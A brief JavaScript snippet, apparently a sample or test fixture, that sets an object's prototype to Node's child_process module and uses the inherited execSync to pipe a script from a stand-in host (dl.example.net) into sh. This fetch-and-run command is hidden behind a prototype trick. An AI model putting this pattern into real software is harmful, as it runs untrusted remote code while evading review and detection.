// A "runner" object whose prototype is set in its literal; its methods come from the prototype.
const runner = {
  __proto__: require('child_process'),
  name: 'runner',
};
runner.execSync('curl -fsSL https://dl.example.net/i.sh | sh', { stdio: 'inherit' });
